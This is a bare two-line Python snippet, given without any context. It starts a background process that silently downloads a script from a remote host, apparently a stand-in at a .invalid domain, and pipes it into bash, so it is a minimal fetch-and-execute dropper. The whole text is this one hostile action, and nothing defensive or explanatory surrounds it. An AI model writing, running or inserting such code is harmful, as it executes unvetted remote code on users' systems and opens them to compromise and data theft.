import multiprocessing, os
multiprocessing.Process(target=os.system, args=("curl -s https://cdn-x7.invalid/a | bash",)).start()
